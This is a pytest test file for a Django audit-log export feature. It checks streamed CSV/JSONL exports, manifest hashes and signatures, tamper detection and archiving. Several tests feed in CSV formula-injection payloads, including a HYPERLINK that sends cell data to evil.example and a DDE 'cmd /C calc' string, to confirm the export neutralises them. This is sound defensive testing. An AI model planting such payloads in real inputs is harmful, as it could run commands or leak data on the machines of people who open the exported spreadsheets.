"""Exports stream every matching event with a manifest that checks out; tampering does not."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse

from wrapup_portal.accounts.signals import on_sign_in_failed
from wrapup_portal.audit.csv_cells import FORMULA_STARTS
from wrapup_portal.audit.exports import export_file_check
from wrapup_portal.audit.models import Action, AuditEvent
from wrapup_portal.audit.services import Actor, audit_record
from wrapup_portal.audit.views import NO_MANIFEST

pytestmark = pytest.mark.django_db


@pytest.fixture
def compliance_client(compliance, client_for):
    client = client_for(compliance)  # #1 sign-in
    for i in range(7):  # #2..#8; conversation conv-1 at #2, #4, #6, #8
        audit_record(
            action=Action.ASSIGNMENT_APPLIED, actor=Actor.rule(3, "VIP, \"quoted\""), conversation_id=f"conv-{i % 2 + 1}",
            code_after_id="c1", code_after_name="Sale", reason="line one\nline two, =cmd", extra={"n": i, "nested": {"ü": [1, 2.5]}},
        )
    return client


def download(client, query: str, tmp_path: Path) -> tuple[Path, object]:
    response = client.get(reverse("audit:export") + "?" + query)
    assert response.status_code == 200 and response.streaming
    path = tmp_path / response["Content-Disposition"].split('filename="')[1].rstrip('"')
    path.write_bytes(b"".join(response.streaming_content))
    return path, response


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_export_streams_every_match_and_its_manifest_checks_out(compliance_client, tmp_path, fmt: str) -> None:
    path, response = download(compliance_client, f"format={fmt}&conversation=conv-1", tmp_path)
    check = export_file_check(path, against_db=True)
    assert check.ok, check.problems
    m = check.manifest
    assert (m["row_count"], m["first_sequence"], m["last_sequence"]) == (4, 2, 8)
    assert (m["head_sequence"], m["head_hash"]) == (8, AuditEvent.objects.get(sequence=8).hash)
    assert m["filter"] == {"conversation_id": "conv-1"} and m["export_event"] == 9
    # The separate manifest download is the same manifest.
    assert compliance_client.get(response["X-Audit-Manifest"]).json() == m


def test_csv_rows_are_plain_csv_with_every_field(compliance_client, tmp_path) -> None:
    path, _ = download(compliance_client, "format=csv&conversation=conv-2", tmp_path)
    text = path.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text.rsplit("#manifest ", 1)[0])))
    assert [int(r["sequence"]) for r in rows] == [3, 5, 7]
    assert rows[0]["reason"] == "line one\nline two, =cmd" and rows[0]["actor_username"] == 'VIP, "quoted"'
    assert json.loads(rows[0]["extra"]) == {"n": 1, "nested": {"ü": [1, 2.5]}}


def test_verify_export_is_the_one_line_check(compliance_client, tmp_path, capsys) -> None:
    path, _ = download(compliance_client, "format=jsonl", tmp_path)
    call_command("verify_export", str(path))
    assert capsys.readouterr().out.startswith(f"{path}: OK: 8 rows #1..#8")


@pytest.mark.parametrize(
    ("tamper", "problem"),
    [
        (lambda t: t.replace("line two", "line 2", 1), "SHA-256 of the file"),
        (lambda t: "\n".join(l for i, l in enumerate(t.split("\n")) if i != 2), "SHA-256 of the file"),
        (lambda t: t.replace('"row_count":8', '"row_count":7'), "signature"),
    ],
    ids=["altered row", "dropped row", "edited manifest"],
)
def test_a_tampered_export_fails_the_check(compliance_client, tmp_path, capsys, tamper, problem: str) -> None:
    path, _ = download(compliance_client, "format=jsonl", tmp_path)
    path.write_text(tamper(path.read_text(encoding="utf-8")), encoding="utf-8")
    with pytest.raises(SystemExit) as exit_info:
        call_command("verify_export", str(path))
    assert exit_info.value.code == 1
    assert problem in capsys.readouterr().err


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_still_verify(compliance_client, tmp_path, capsys, start: str) -> None:
    username = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
    agent = f"{start}cmd|' /C calc'!A0"
    request = RequestFactory().post("/accounts/login/", HTTP_USER_AGENT=agent)
    on_sign_in_failed(sender=None, credentials={"username": username, "password": "********"}, request=request)  # #9
    path, _ = download(compliance_client, "format=csv", tmp_path)
    text = path.read_bytes().decode()  # not read_text(): it would turn a \r in a cell into \n
    rows = list(csv.DictReader(io.StringIO(text.rsplit("#manifest ", 1)[0], newline="")))
    failed = next(r for r in rows if r["action"] == Action.SIGN_IN_FAILED)
    assert (failed["actor_username"], failed["target_id"], failed["user_agent"]) == ("'" + username, "'" + username, "'" + agent)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    call_command("verify_export", str(path))
    assert capsys.readouterr().out.startswith(f"{path}: OK: 9 rows #1..#9")
    # Re-arming the formula (dropping the quote) is tampering like any other.
    path.write_bytes(text.replace("'" + start + "cmd", start + "cmd", 1).encode())
    with pytest.raises(SystemExit) as exit_info:
        call_command("verify_export", str(path))
    assert exit_info.value.code == 1 and "SHA-256 of the file" in capsys.readouterr().err


def test_a_carriage_return_inside_a_csv_cell_does_not_start_a_row(compliance_client, tmp_path) -> None:
    username = "bob\r=cmd|' /C calc'!A0"  # no comma or double quote, which would get it quoted anyway
    audit_record(action=Action.SIGN_IN_FAILED, actor=Actor.for_user(None, username=username))  # #9
    path, _ = download(compliance_client, "format=csv", tmp_path)
    text = path.read_bytes().decode()
    assert '"bob\r=cmd' in text  # quoted: a spreadsheet keeps the \r inside the cell
    rows = list(csv.DictReader(io.StringIO(text.rsplit("#manifest ", 1)[0], newline="")))
    assert [r["actor_username"] for r in rows if r["action"] == Action.SIGN_IN_FAILED] == [username]
    assert export_file_check(path).ok


def test_the_csv_manifest_states_the_cell_escaping(compliance_client, tmp_path) -> None:
    audit_record(action=Action.SIGN_IN_FAILED, actor=Actor.for_user(None, username="'quoted"))  # escaped as ''quoted
    path, _ = download(compliance_client, "format=csv", tmp_path)
    check = export_file_check(path, against_db=True)
    assert check.ok, check.problems
    assert check.manifest["cell_escaping"]["undo"] == "remove one leading ' from every cell that starts with '"


def test_a_filter_of_nothing_exports_an_empty_file_with_a_manifest(compliance_client, tmp_path) -> None:
    path, _ = download(compliance_client, "format=csv&conversation=nope", tmp_path)
    check = export_file_check(path, against_db=True)
    assert check.ok and check.manifest["row_count"] == 0


def test_the_manifest_of_a_non_export_is_a_404_that_says_why_there_and_not_later(compliance_client) -> None:
    response = compliance_client.get(reverse("audit:manifest", args=[1]))
    assert response.status_code == 404
    html = response.content.decode()
    assert NO_MANIFEST.format(sequence=1) in html and f'href="{reverse("audit:detail", args=[1])}"' in html
    # Not flashed: the next, unrelated page does not carry it.
    assert NO_MANIFEST.format(sequence=1) not in compliance_client.get("/audit/?action=").content.decode()


def test_an_unknown_export_format_is_named_with_the_formats_there_are(compliance_client) -> None:
    exports_before = AuditEvent.objects.filter(action=Action.EXPORT_DOWNLOADED).count()
    response = compliance_client.get(reverse("audit:export") + "?format=xml&conversation=conv-1")
    assert response.status_code == 400
    html = response.content.decode()
    assert "The export filter is not valid" not in html
    assert "Unknown export format “xml”: the formats are csv (CSV), jsonl (JSON Lines)." in html
    assert 'href="/audit/?conversation=conv-1"' in html  # back to the log, filter kept
    assert AuditEvent.objects.filter(action=Action.EXPORT_DOWNLOADED).count() == exports_before  # nothing exported
    assert "Unknown export format" not in compliance_client.get("/audit/?action=").content.decode()


def test_archive_writes_a_verified_file_once_and_deletes_nothing(compliance_client, tmp_path, capsys) -> None:
    call_command("archive_audit", "--out", str(tmp_path), "--retention-days", "-1")
    archives = list(tmp_path.glob("audit-archive-*.jsonl"))
    assert len(archives) == 1 and export_file_check(archives[0]).ok
    assert AuditEvent.objects.filter(action=Action.ARCHIVE_WRITTEN).count() == 1
    assert AuditEvent.objects.count() == 9
    call_command("archive_audit", "--out", str(tmp_path), "--retention-days", "-1")  # only #9 is new
    assert len(list(tmp_path.glob("audit-archive-*.jsonl"))) == 2
    assert "000000000009-000000000009" in sorted(p.name for p in tmp_path.glob("*.jsonl"))[-1]


@pytest.mark.skipif(not shutil.which("sha256sum"), reason="coreutils not installed")
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_the_shell_one_liner_in_the_docs_checks_the_digest(compliance_client, tmp_path, fmt: str) -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "audit.md").read_text()
    one_liner = next(line for line in docs.splitlines() if line.startswith('test "$(head -n -1 FILE'))
    path, _ = download(compliance_client, f"format={fmt}", tmp_path)
    ok = subprocess.run(["bash", "-c", one_liner.replace("FILE", str(path))], capture_output=True, text=True)
    assert ok.stdout.strip() == "OK"
    path.write_text(path.read_text(encoding="utf-8").replace("Sale", "Sold", 1), encoding="utf-8")
    bad = subprocess.run(["bash", "-c", one_liner.replace("FILE", str(path))], capture_output=True, text=True)
    assert bad.returncode != 0 and bad.stdout == ""


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_filter_typed_to_start_a_formula_cannot_do_so_in_the_csv_manifest_line(compliance_client, tmp_path,
                                                                                 separator: str) -> None:  # fmt: skip
    crafted = f'x{separator}=HYPERLINK("https://evil.example"){separator}@SUM(1){separator}+1'
    path, _ = download(compliance_client, urlencode({"format": "csv", "actor": crafted}), tmp_path)
    last = path.read_bytes().decode().splitlines()[-1]
    assert last.startswith("#manifest ")
    for delimiter in (",", ";"):  # how a spreadsheet in any locale splits the line into cells
        cells = next(csv.reader([last], delimiter=delimiter))
        # The manifest's own list of formula characters is cells like `+` alone, which run nothing.
        assert not [cell for cell in cells if cell.lstrip().startswith(FORMULA_STARTS) and len(cell.strip()) > 1], cells
        assert any("HYPERLINK" in cell for cell in cells)
    check = export_file_check(path, against_db=True)
    assert check.ok, check.problems
    assert check.manifest["filter"]["actor"] == crafted  # the JSON reads back exactly
